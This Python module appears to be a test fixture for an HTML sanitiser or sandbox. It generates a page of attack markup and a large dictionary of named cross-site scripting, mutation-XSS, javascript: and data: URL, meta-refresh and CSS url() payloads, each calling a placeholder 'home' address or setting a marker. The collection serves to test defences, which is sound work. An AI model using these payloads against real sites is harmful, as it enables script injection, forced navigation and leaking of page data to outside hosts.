"""A page full of attacks. Each calls home under its own path when it works."""


def attacks(home: str) -> str:
    """Return the page; `home` is the address that attacks call."""
    return f"""<!DOCTYPE html>
<html onload="top.attacked = 1" manifest="{home}/manifest">
<head><title>Attack &lt;/title>&lt;script>window.attacked = 29&lt;/script></title>
<base href="{home}/base/" target="_top">
<meta http-equiv="refresh" content="0; url={home}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="{home}/sheet"><link rel="preload" as="image" href="{home}/preload">
<link rel="prefetch" href="{home}/prefetch"><link rel="preconnect" href="{home}"><link rel="icon" href="{home}/icon">
<style>
@import url({home}/import); @import "{home}/import-string";
@font-face {{ font-family: f; src: url({home}/font) }}
body {{ background: url("{home}/background"); font-family: f }}
li::before {{ content: url({home}/content) }}
* {{ pointer-events: none; }}
.record {{ cursor: url({home}/cursor), auto; background: image-set("{home}/image-set" 1x) }}
a[data-x^="a"] {{ background: u\\72l({home}/escaped) }}
.cover {{ position: fixed; inset: 0; z-index: 2147483647; background: red; height: 100vh }}
:root {{ --u: url({home}/variable) }} p {{ background-image: var(--u) }}
</style>
<script>top.attacked = 2; fetch("{home}/fetch"); top.location = "{home}/top"; parent.document.title = "owned"</script>
<script src="{home}/script"></script>
</head>
<body onload="parent.attacked = 3" onpageshow="parent.attacked = 4" background="{home}/body-background">
<ul class="menu">{"".join(f'<li class="entry"><a href="/menu/{n}">Menu {n}</a></li>' for n in range(8))}</ul>
<section class="results">
{"".join(f'<div class="record"><h2>Record {n}</h2><p class="text">Text {n}</p></div>' for n in range(20))}
</section>
<div class="cover" onmousemove="parent.attacked = 5">cover</div>
<img src=x onerror="top.attacked = 6"><img src="{home}/img" srcset="{home}/srcset 2x" lowsrc="{home}/lowsrc">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>top.attacked=7</script></svg>">
<picture><source srcset="{home}/picture"><img></picture>
<svg onload="top.attacked = 8"><script>top.attacked = 9</script><image href="{home}/svg-image" width="9" height="9"/>
<use href="{home}/use#x"/><a href="javascript:top.attacked = 10"><text y="9">x</text></a>
<animate attributeName="href" to="javascript:top.attacked = 11" begin="0s"/><set attributeName="onload" to="x"/>
<foreignObject><iframe src="{home}/foreign"></iframe></foreignObject>
<rect width="5" height="5" fill="url({home}/fill)" filter="url({home}/filter#f)"/></svg>
<math><maction actiontype="statusline" xlink:href="javascript:top.attacked = 12">m</maction></math>
<a href="javascript:top.attacked = 13">js</a> <a href="{home}/link" target="_top" ping="{home}/ping" autofocus>link</a>
<a href="data:text/html,<script>top.attacked = 14</script>" target="_blank">data</a> <a href="#x" download>d</a>
<form id="f" action="{home}/form" method="post" target="_top"><input name="a" autofocus onfocus="top.attacked = 15">
<button formaction="{home}/formaction">Send</button><input type="image" src="{home}/input-image"></form>
<iframe src="{home}/iframe"></iframe><iframe srcdoc="<script>top.attacked = 16; parent.parent.attacked = 17</script>">
</iframe><frame src="{home}/frame"><object data="{home}/object"><param name="movie" value="{home}/param"></object>
<embed src="{home}/embed"><video src="{home}/video" poster="{home}/poster" autoplay onerror="top.attacked = 18">
<source src="{home}/source"><track src="{home}/track" default></video><audio src="{home}/audio" autoplay></audio>
<applet code="x" archive="{home}/applet"></applet><bgsound src="{home}/bgsound">
<table background="{home}/table"><tr><td background="{home}/cell">c</td></tr></table>
<details open ontoggle="top.attacked = 19"><summary>s</summary>d</details>
<template shadowrootmode="open"><script>top.attacked = 20</script><img src="{home}/shadow"></template>
<noscript><img src="{home}/noscript"><meta http-equiv="refresh" content="0; url={home}/noscript-refresh"></noscript>
<p style="background: url({home}/style); animation: x 1s" onanimationstart="top.attacked = 21">styled</p>
<marquee onstart="top.attacked = 22">m</marquee><input type="text" list="l" onblur="top.attacked = 23" value="v">
<xmp></xmp><img title="</xmp><img src=x onerror=top.attacked=24>"><noembed></noembed>
<a title="</script><script>top.attacked = 25</script>" data-tps-n="0" data-tps-region="9">quote</a>
<tps-text data-tps-n="1">forged</tps-text><p id="tps-data">forged</p><p class="box chosen" id="panes">forged</p>
<svg><style>&lt;/style&gt;&lt;img src=x onerror=top.attacked=26&gt;</style></svg>
<!-- --!><img src=x onerror="top.attacked = 27"> -->
<plaintext><script>top.attacked = 28</script>
"""


#: One attack each, by name. ``HOME`` is an address that only this attack calls, ``RUN`` a script that leaves
#: its mark in the topmost window. Most work in a current browser that nothing holds; others worked in one before.
VECTORS = {
    # scripts and handlers
    "script": "<script>RUN</script>",
    "script-src": "<script src='HOME'></script>",
    "script-module": "<script type=module>import 'HOME'</script>",
    "script-upper": "<SCRIPT/XSS>RUN</SCRIPT>",
    "script-broken": "<scr<script>ipt>RUN</script>",
    "onerror": "<img src=x onerror=RUN>",
    "onerror-slashes": "<img/src='x'/onerror='RUN'/alt>",
    "onerror-form-feed": "<img\x0csrc=x\x0conerror=RUN>",
    "onerror-case": "<IMG SRC=x oNeRrOr=RUN>",
    "onerror-no-space": "<img src='x'onerror='RUN'>",
    "onerror-tab-newline": "<img\tsrc=x\nonerror\n=\nRUN>",
    "onerror-entity": "<img src=x onerror='&#116;RUN_REST'>",
    "onload-body": "<body onload=RUN>",
    "onload-svg": "<svg onload=RUN>",
    "onload-style": "<style onload=RUN>a{}</style>",
    "ontoggle": "<details open ontoggle=RUN><summary>s</summary>d</details>",
    "onfocus": "<input autofocus onfocus=RUN>",
    "onfocus-tabindex": "<p tabindex=1 autofocus onfocus=RUN>p</p>",
    "onanimationstart": "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=RUN>p</p>",
    "onclick": "<p onclick=RUN>p</p>",
    "onmouseover": "<b onmouseover='RUN'>b</b>",
    "onstart-marquee": "<marquee onstart=RUN>m</marquee>",
    "oncontentvisibility": "<p oncontentvisibilityautostatechange=RUN style='content-visibility:auto'>p</p>",
    "custom-element": "<x-card onclick=RUN tabindex=1 onfocus=RUN autofocus>x</x-card>",
    "nameless-attribute": "<img src=x \"onerror=RUN onerror=RUN>",
    "attribute-delimiters": "<p title='\"><img src=x onerror=RUN>'>p</p>",
    "attribute-backtick": "<img alt=`` src=`x`onerror=RUN>",
    "attribute-newline-quote": "<p title=\"&quot;&gt;&lt;img src=x onerror=RUN&gt;\">p</p>",
    # markup that parsers read differently
    "svg-style-text": "<svg><style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style></svg>",
    "svg-style-element": "<svg><style><img src=x onerror=RUN></style></svg>",
    "svg-style-attribute": "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
    "svg-title-style": "<svg><title><style><img title=\"</style><img src=x onerror=RUN>\"></style></title></svg>",
    "svg-desc": "<svg><desc><noembed><b title=\"</noembed><img src=x onerror=RUN>\"></noembed></desc></svg>",
    "svg-foreign-object": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "svg-script": "<svg><script>RUN</script></svg>",
    "svg-script-cdata": "<svg><script><![CDATA[RUN]]></script></svg>",
    "svg-script-entities": "<svg><script>&#116;RUN_REST</script></svg>",
    "svg-cdata": "<svg><![CDATA[<img src=x onerror=RUN>]]><p><img src=x onerror=RUN></svg>",
    "svg-break-out": "<svg><p><style><g title=\"</style><img src=x onerror=RUN>\">",
    "svg-template": "<svg><template><style><img src=x onerror=RUN></style></template></svg>",
    "math-style": "<math><style><img src=x onerror=RUN></style></math>",
    "math-mtext": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=RUN&gt;\">",
    "math-mi-malignmark": "<math><mi><malignmark><style><img src=x onerror=RUN></style></malignmark></mi></math>",
    "math-annotation": "<math><annotation-xml encoding=text/html>"
    "<style><img src=x onerror=RUN></style></annotation-xml>",
    "math-annotation-svg": "<math><annotation-xml><svg><style><img title=\"</style><img src=x onerror=RUN>\">",
    "math-table-form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "nested-forms": "<form id=a><div></form><form><table></table><style></form><img src=x onerror=RUN>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>",
    "noscript-style": "<noscript><style></noscript><img src=x onerror=RUN></style></noscript>",
    "title-end": "<title><b title='</title><img src=x onerror=RUN>'></title>",
    "textarea-end": "<textarea><b title='</textarea><img src=x onerror=RUN>'></textarea>",
    "xmp": "<xmp><b title='</xmp><img src=x onerror=RUN>'></xmp>",
    "listing": "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "noembed": "<noembed><b title='</noembed><img src=x onerror=RUN>'></noembed>",
    "noframes": "<noframes><b title='</noframes><img src=x onerror=RUN>'></noframes>",
    "iframe-text": "<iframe><b title='</iframe><img src=x onerror=RUN>'></iframe>",
    "plaintext": "<plaintext><img src=x onerror=RUN>",
    "template": "<template><img src=x onerror=RUN></template>",
    "template-shadow": "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
    "select": "<select><style></select><img src=x onerror=RUN></style></select>",
    "option": "<select><option><p><img src=x onerror=RUN></select>",
    "table-foster": "<table><style></table><img src=x onerror=RUN></style><tr><img src=x onerror=RUN></table>",
    "comment-bang": "<!-- --!><img src=x onerror=RUN> -->",
    "comment-short": "<!--><img src=x onerror=RUN>-->",
    "comment-dash": "<!---><img src=x onerror=RUN>-->",
    "comment-nested": "<!-- <!-- --><img src=x onerror=RUN> -->",
    "comment-bogus": "</ ><img src=x onerror=RUN><!x><img src=x onerror=RUN>",
    "comment-conditional": "<!--[if gte IE 4]><img src=x onerror=RUN><![endif]--><![if !IE]><img src=x onerror=RUN>",
    "processing-instruction": "<?xml ><img src=x onerror=RUN>?>",
    "cdata": "<![CDATA[><img src=x onerror=RUN>]]>",
    "doctype": "<!DOCTYPE x [<!ENTITY e \"><img src=x onerror=RUN>\">]>",
    "nul": "<im\x00g src=x onerror=RUN><img src=x one\x00rror=RUN><\x00script>RUN</script>",
    "element-name": "<img/onerror=RUN/src=x><p:img src=x onerror=RUN><a/b=c><x<img src=x onerror=RUN>",
    "nested-deep": "<b>" * 600 + "<svg><style><img src=x onerror=RUN></style></svg>",
    "nested-formatting": "<a><table><a><style><a title='</style><img src=x onerror=RUN>'>",
    # addresses of scripts
    "javascript": "<a href='javascript:RUN'>a</a>",
    "javascript-case": "<a href='JaVaScRiPt:RUN'>a</a>",
    "javascript-tab": "<a href='java\tscript:RUN'>a</a>",
    "javascript-newline-entity": "<a href='java&#10;script&colon;RUN'>a</a>",
    "javascript-control": "<a href='\x01\x02 javascript:RUN'>a</a>",
    "javascript-entity": "<a href='&#x6A;&#97;vascript:RUN'>a</a>",
    "javascript-area": "<map name=m><area shape=default href='javascript:RUN'></map><img usemap=#m src=x>",
    "javascript-form": "<form action='javascript:RUN'><button>b</button></form>",
    "javascript-formaction": "<form><button formaction='javascript:RUN'>b</button></form>",
    "javascript-input": "<form><input type=submit formaction='javascript:RUN'><input type=image src=x></form>",
    "javascript-iframe": "<iframe src='javascript:RUN'></iframe>",
    "javascript-object": "<object data='javascript:RUN'></object><embed src='javascript:RUN'>",
    "javascript-svg-a": "<svg><a href='javascript:RUN'><text y=9>a</text></a></svg>",
    "javascript-xlink": "<svg><a xlink:href='javascript:RUN'><text y=9>a</text></a></svg>",
    "javascript-animate": "<svg><a><animate attributeName=href values='javascript:RUN'/><text y=9>a</text></a></svg>",
    "javascript-set": "<svg><a><set attributeName=xlink:href to='javascript:RUN'/><text y=9>a</text></a></svg>",
    "javascript-math": "<math href='javascript:RUN'><mi xlink:href='javascript:RUN'>m</mi></math>",
    "javascript-base": "<base href='javascript:/a/-RUN//'><a href='#'>a</a>",
    "javascript-refresh": "<meta http-equiv=refresh content='0; url=javascript:RUN'>",
    "javascript-image": "<img src='javascript:RUN'><input type=image src='javascript:RUN'>",
    "javascript-target": "<a href='javascript:RUN' target=_top>a</a>",
    "svg-animate-handler": "<svg><animate onbegin=RUN attributeName=x dur=1s /></svg>",
    "svg-set-handler": "<svg><set onbegin=RUN attributeName=x to=1 /></svg>",
    "data-iframe": "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "data-object": "<object data='data:text/html,<script>RUN</script>'></object>",
    "data-script": "<script src='data:text/javascript,RUN'></script>",
    "data-svg-image": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'>"
    "<image href='HOME'/></svg>\">",
    "data-svg-use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='x' onerror='RUN'/></svg>#x\"/></svg>",
    "srcdoc": "<iframe srcdoc='<script>parent.RUN;RUN</script>'></iframe>",
    "srcdoc-entities": "<iframe srcdoc='&lt;img src=x onerror=RUN&gt;'></iframe>",
    # navigation
    "refresh": "<meta http-equiv=refresh content='0; url=HOME'>",
    "refresh-body": "<p><meta http-equiv='Refresh' content='0;HOME'>",
    "base-target": "<base target=_top href='HOME/'><a href=b>a</a>",
    "target-top": "<a href='HOME' target=_top>a</a>",
    "target-parent": "<a href='HOME' target=_parent>a</a>",
    "target-blank": "<a href='HOME' target=_blank>a</a>",
    "link": "<a href='HOME'>a</a>",
    "form": "<form action='HOME' target=_top><button>b</button></form>",
    "form-post": "<form action='HOME' method=post target=_top><input name=a><input type=submit></form>",
    "form-attribute": "<form id=f action='HOME' target=_top></form><button form=f>b</button>",
    "formaction": "<form target=_top><button formaction='HOME'>b</button></form>",
    "ping": "<a href='#x' ping='HOME'>a</a>",
    "download": "<a href='HOME' download>a</a>",
    "form-no-action": "<form target=_top><input name=a><button>b</button></form>",
    # what is fetched
    "img": "<img src='HOME'>",
    "img-entity": "<img src='&#104;ttp&colon;HOME_REST'>",
    "img-srcset": "<img srcset='HOME 1x'>",
    "img-lazy": "<img loading=lazy src='HOME'>",
    "image": "<image src='HOME'>",
    "picture": "<picture><source srcset='HOME'><img></picture>",
    "input-image": "<input type=image src='HOME'>",
    "background": "<body background='HOME'><table background='HOME'><tr><td background='HOME'>c</table>",
    "video": "<video src='HOME' poster='HOME' autoplay muted></video>",
    "audio": "<audio autoplay><source src='HOME'></audio>",
    "track": "<video src='x'><track default kind=captions src='HOME'></video>",
    "iframe": "<iframe src='HOME'></iframe>",
    "frameset": "<frameset><frame src='HOME'></frameset>",
    "object": "<object data='HOME'></object>",
    "embed": "<embed src='HOME'>",
    "link-stylesheet": "<link rel=stylesheet href='HOME'>",
    "link-icon": "<link rel=icon href='HOME'>",
    "link-preload": "<link rel=preload as=image href='HOME'>",
    "link-modulepreload": "<link rel=modulepreload href='HOME'>",
    "link-prefetch": "<link rel=prefetch href='HOME'>",
    "link-manifest": "<link rel=manifest href='HOME'>",
    "noscript-img": "<noscript><img src='HOME'></noscript>",
    "svg-image": "<svg><image href='HOME' width=9 height=9 /></svg>",
    "svg-image-xlink": "<svg><image xlink:href='HOME' width=9 height=9 /></svg>",
    "svg-use": "<svg><use href='HOME#x'/></svg>",
    "svg-fe-image": "<svg><filter id=f><feImage href='HOME'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "svg-fill": "<svg><rect width=9 height=9 fill='url(HOME#x)' mask='u\\72l(HOME#m)'/></svg>",
    "svg-animate-src": "<svg><image width=9 height=9><set attributeName=href to='HOME'/></image></svg>",
    "svg-style-import": "<svg><style>@import 'HOME';</style></svg>",
    # style
    "css-url": "<style>body { background: url(HOME) }</style>",
    "css-url-quoted": "<style>body { background: url('HOME') }</style>",
    "css-url-escaped": "<style>body { background: \\75rl(HOME) }</style>",
    "css-url-escaped-6": "<style>body { background: u\\000072l('HOME') }</style>",
    "css-url-escaped-space": "<style>body { background: \\75 \\72 \\6c (HOME) }</style>",
    "css-url-case": "<style>body { background: uRl( HOME ) }</style>",
    "css-url-data-first": "<style>body { background: url(data:,x), url(HOME) }</style>",
    "css-url-bracket-in-string": "<style>body { background: url(\"data:image/png,)\"), url(HOME) }</style>",
    "css-url-hash": "<style>body { background: url('#'), url(HOME#x) }</style>",
    "css-comment": "<style>/* url( */body { background: url(HOME) }/* ) */</style>",
    "css-comment-inside": "<style>body/**/{/**/background/**/:/**/url(HOME)/**/}</style>",
    "css-cdo": "<style><!-- body { background: url(HOME) } --></style>",
    "css-drawing": "<svg><style>text { fill: url(HOME) } @import 'HOME';</style><text y=9>t</text></svg>",
    "css-attribute": "<p style='background: url(HOME)'>p</p>",
    "css-attribute-escaped": "<p style='background: \\75rl(HOME)'>p</p>",
    "css-attribute-entity": "<p style='background&#58; u&#114;l(HOME)'>p</p>",
    "css-attribute-open": "<p style='background: url(HOME'>p</p>",
    "css-import": "<style>@import url(HOME);</style>",
    "css-import-string": "<style>@import 'HOME';</style>",
    "css-import-escaped": "<style>@\\69mport 'HOME';</style>",
    "css-import-no-space": "<style>@import'HOME'</style>",
    "css-import-comment": "<style>@import/**/\"HOME\"/**/screen;</style>",
    "css-import-semicolon": "<style>@import 'data:text/css,;@import \"HOME\";';</style>",
    "css-import-layer": "<style>@import url(HOME) layer(a) supports(display: grid);</style>",
    "css-import-data": "<style>@import 'data:text/css,body{background:url(HOME)}';</style>",
    "css-image-set": "<style>body { background: image-set('HOME' 1x) }</style>",
    "css-image-set-webkit": "<style>body { background: -webkit-image-set(url(HOME) 1x) }</style>",
    "css-image-set-escaped": "<style>body { background: im\\61ge-set('HOME' 1x) }</style>",
    "css-image-set-nested": "<style>body { background: image-set(linear-gradient(red, red) 2x, 'HOME' 1x) }</style>",
    "css-cross-fade": "<style>body { background: -webkit-cross-fade(url(HOME), url(HOME), 50%) }</style>",
    "css-src": "<style>body { background: src('HOME') }</style>",
    "css-variable": "<style>:root { --u: url(HOME) } body { background: var(--u) }</style>",
    "css-variable-escaped": "<style>:root { --u: \\75rl(HOME) } body { background: var(--u) }</style>",
    "css-variable-string": "<style>:root { --u: 'HOME' } body { background: image-set(var(--u) 1x) }</style>",
    "css-variable-attribute": "<body style='--u: \\75rl(HOME); background: var(--u)'>",
    "css-property": "<style>@property --u { syntax: '<image>'; inherits: true; initial-value: url(HOME) }"
    "body { background: var(--u) }</style>",
    "css-attr": "<style>p { background: image-set(attr(data-u) 1x) }</style><p data-u='HOME'>p</p>",
    "css-font": "<style>@font-face { font-family: f; src: url(HOME) } body { font-family: f }</style>text",
    "css-font-src": "<style>@font-face { font-family: f; src: local(x), \\75rl(HOME) } * { font: 9px f }</style>text",
    "css-content": "<style>body::before { content: url(HOME) }</style>",
    "css-cursor": "<style>* { cursor: url(HOME), auto }</style>",
    "css-list": "<style>li { list-style: url(HOME) }</style><li>l</li>",
    "css-border": "<style>body { border: 9px solid; border-image: url(HOME) 9 }</style>",
    "css-mask": "<style>body { mask: url(HOME); -webkit-mask: url(HOME) }</style>",
    "css-filter": "<style>body { filter: url(HOME#f); clip-path: url(HOME#c) }</style>",
    "css-shape": "<style>p { float: left; shape-outside: url(HOME) }</style><p>p</p>",
    "css-nested": "<style>body { & { @media screen { background: url(HOME) } } }</style>",
    "css-supports": "<style>@supports (display: grid) { @layer a { body { background: url(HOME) } } }</style>",
    "css-keyframes": "<style>@keyframes k { from { background: url(HOME) } to { background: url(HOME) } }"
    "body { animation: k 9s infinite }</style>",
    "css-selector": "<style>a:not(.x[title=')']), body { background: url(HOME) }</style>",
    "css-bad-string": "<style>a { content: 'x\n; } body { background: url(HOME) }</style>",
    "css-bad-url": "<style>a { background: url(x y\\) } b { c: d) } body { background: url(HOME) }</style>",
    "css-many-digits": "<style>a { z-index: " + "1" * 5000 + " } body { background: url(HOME) }</style>",
    "css-deep": "<style>body { --x: " + "(" * 100 + "\\75rl(HOME)" + ")" * 100 + "; background: url(HOME) }</style>",
    "css-behaviour": "<style>a { behavior: url(HOME); -moz-binding: url(HOME); width: expression(RUN) }"
    "</style><a>a</a>",
    "css-style-end": "<style>a { content: '</style><img src=x onerror=RUN>' }</style>",
    "css-type": "<style type=text/css media='screen'>body { background: url(HOME) }</style>",
}  # fmt: skip


def vector(name: str, home: str) -> str:
    """Return the markup of an attack: it calls its name at `home`, and sets its mark in the topmost window."""
    address, run = f"{home}/{name}", f"top.{mark(name)}=1"
    markup = VECTORS[name].replace("HOME_REST", address.removeprefix("http:")).replace("RUN_REST", run[1:])
    return markup.replace("HOME", address).replace("RUN", run)


def mark(name: str) -> str:
    """Return the global that a script of the attack sets."""
    return f"attacked{list(VECTORS).index(name)}"
